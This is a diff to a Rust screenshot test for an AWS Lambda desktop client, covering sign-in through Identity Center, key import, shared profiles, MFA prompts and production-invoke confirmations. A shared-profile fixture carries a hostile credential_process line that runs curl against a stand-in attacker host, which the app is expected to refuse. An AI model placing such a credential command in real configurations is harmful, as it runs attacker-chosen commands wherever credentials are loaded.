@@ -1,6 +1,7 @@
 //! Pictures of the real window in every state, in both themes and two sizes, into `target/screenshots`: for looking at.
 
 use lambdesk_sandbox::{Options, Sandbox};
+use lambdesk_tests::browser::decide;
 use lambdesk_tests::keys;
 use lambdesk_tests::window::{Opening, Window};
 
@@ -162,4 +163,140 @@ async fn how_it_is_sent(name: &str, opening: &Opening) {
     window.click("button", "Settings").await;
     picture(&window, "28-settings").await;
     window.end().await;
+    signing_in(name, opening).await;
+    what_is_demanded(name, opening).await;
+}
+
+/// From the first click to a profile that signs in, and what there is to do with profiles.
+async fn signing_in(name: &str, opening: &Opening) {
+    let keys = "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00\n";
+    let shared = "format = 1\n[[profile]]\nid = \"a\"\nname = \"Acme production\"\nkind = \"identity_center\"\nsso_start_url = \"https://acme.awsapps.com/start\"\nsso_region = \"eu-central-1\"\nsso_account_id = \"123456789012\"\nsso_role_name = \"Developer\"\nregion = \"eu-central-1\"\nproduction = true\n[[profile]]\nid = \"c\"\nname = \"Runs a command\"\naccess_key_id = \"AKIDEXAMPLE\"\nregion = \"eu-central-1\"\ncredential_process = \"curl evil.example\"\n";
+    let files = vec![(".aws/credentials", keys.to_owned()), ("profiles.toml", shared.to_owned())];
+    let mut window = Window::open_with(&Opening { files, ..opening.clone() }).await;
+    let picture = async |window: &Window, state: &str| {
+        window.screenshot(&format!("{name}-{state}")).await;
+    };
+    picture(&window, "30-aws-files").await;
+    window.profiles("Add a profile…").await;
+    picture(&window, "31-kinds").await;
+    window.click("button", "Sign in through IAM Identity Center").await;
+    window.fill("Start address", "acme").await;
+    window.click("button", "Continue").await;
+    window.dialog_says("A start address looks like").await;
+    picture(&window, "32-wrong-address").await;
+    window.click("button", "Try it with the sandbox").await;
+    window.click("button", "Continue").await;
+    window.dialog_says("Check that the browser shows this code").await;
+    picture(&window, "33-browser").await;
+    decide(&window, "deny").await;
+    window.dialog_says("denied in the browser").await;
+    picture(&window, "34-denied").await;
+    window.click("button", "Try again").await;
+    decide(&window, "allow").await;
+    window.wait_for("textbox", "Account").await;
+    picture(&window, "35-accounts").await;
+    window.fill("Account", "Development").await;
+    window.click_option("Acme Development").await;
+    window.click_option("Developer").await;
+    picture(&window, "36-account-and-role").await;
+    window.click("button", "Save profile").await;
+    window.closed().await;
+    window.says("renews by itself").await;
+    picture(&window, "37-signed-in").await;
+    window.click_beginning("header [aria-haspopup=menu]", "Profile:").await;
+    window.wait_for("menuitem", "Sign out").await;
+    picture(&window, "38-menu").await;
+    window.click_item("Import…").await;
+    window.dialog_says("AKIAIOSFODNN7EXAMPLE").await;
+    picture(&window, "39-import-keys").await;
+    window.click("button", "Import").await;
+    window.dialog_says("in the keychain now").await;
+    picture(&window, "40-imported").await;
+    window.click("tab", "Shared profiles").await;
+    window.fill("File", &window.home().join("profiles.toml").display().to_string()).await;
+    window.click("button", "Show what is in it").await;
+    window.dialog_says("Refused").await;
+    picture(&window, "41-import-shared").await;
+    window.click("button", "Add").await;
+    window.dialog_says("Added:").await;
+    window.click("button", "Close").await;
+    window.profiles("Share profiles…").await;
+    window.fill("File", &window.home().join("for-the-team.toml").display().to_string()).await;
+    window.click("button", "Write 3 profiles").await;
+    window.dialog_says("were written to").await;
+    picture(&window, "42-shared").await;
+    window.click("button", "Close").await;
+    window.profiles("Edit Acme Development").await;
+    window.click("button", "Choose another account or role…").await;
+    window.wait_for("textbox", "Account").await;
+    picture(&window, "43-edit").await;
+    window.click("button", "Cancel").await;
+    window.profiles("Sign out").await;
+    window.says("Not signed in").await;
+    window.fill("Function", "orders-create").await;
+    window.click("button", "Invoke").await;
+    window.dialog_says("Check that the browser shows this code").await;
+    picture(&window, "44-sign-in-again").await;
+    window.click("button", "Cancel").await;
+    window.outcome("Not sent").await;
+    picture(&window, "45-not-sent").await;
+    window.end().await;
+}
+
+/// Profiles of the AWS files, and what they ask of the user: a code, a look at a command, a confirmation.
+async fn what_is_demanded(name: &str, opening: &Opening) {
+    let aws = Sandbox::start(Options::default()).await.expect("a sandbox");
+    let (key, account) = (aws.credentials(), aws.account());
+    let place = format!("region = {}\nendpoint_url = {}\n", aws.region(), aws.endpoint());
+    let config = format!(
+        "[profile payments-admin]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n{place}
+[profile operator]\nrole_arn = arn:aws:iam::{account}:role/Operator\nsource_profile = payments-admin\nmfa_serial = arn:aws:iam::{account}:mfa/jane\n{place}
+[profile broker]\ncredential_process = /opt/acme/bin/vault-credentials --role payments-readonly --format aws-process --ttl 900\n{place}
+[profile adrift]\nrole_arn = arn:aws:iam::{account}:role/Developer\nsource_profile = gone\n{place}",
+        id = key.access_key_id,
+        secret = key.secret_access_key,
+    );
+    let marked = "format = 1\n[[profile]]\nname = \"payments-admin\"\nkind = \"aws_files\"\naws_profile = \"payments-admin\"\nproduction = true\n";
+    let files = vec![(".aws/config", config), ("config/dev.lambdesk.desktop/profiles.toml", marked.to_owned())];
+    let mut window = Window::open_with(&Opening { files, ..opening.clone() }).await;
+    let picture = async |window: &Window, state: &str| {
+        window.screenshot(&format!("{name}-{state}")).await;
+    };
+    window.click_beginning("header [aria-haspopup=menu]", "Profile:").await;
+    window.wait_for("menuitem", "Import…").await;
+    picture(&window, "50-menu-aws-files").await;
+    window.click_item("operator").await;
+    window.fill("Code", "000000").await;
+    window.click("button", "Continue").await;
+    window.dialog_says("The code was wrong").await;
+    picture(&window, "51-wrong-code").await;
+    window.click("button", "Cancel").await;
+    window.closed().await;
+    window.profiles("broker").await;
+    window.wait_for("button", "Run it").await;
+    picture(&window, "52-command").await;
+    window.click("button", "Cancel").await;
+    window.closed().await;
+    window.profiles("adrift").await;
+    window.says("Not signed in").await;
+    picture(&window, "53-adrift").await;
+    window.profiles("Edit payments-admin").await;
+    window.wait_for("textbox", "Name").await;
+    picture(&window, "54-mark").await;
+    window.click("button", "Cancel").await;
+    window.profiles("payments-admin").await;
+    window.wait_for("button", "Invoke in production").await;
+    window.says("Signed in").await;
+    window.fill("Function", "echo").await;
+    window.fill("Qualifier", "live").await;
+    picture(&window, "55-production").await;
+    window.click("button", "Invoke in production").await;
+    window.dialog_says("This is production").await;
+    picture(&window, "56-confirm").await;
+    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+    window.click("button", "Invoke").await;
+    window.outcome("Succeeded").await;
+    picture(&window, "57-production-succeeded").await;
+    window.end().await;
+    aws.stop().await;
 }
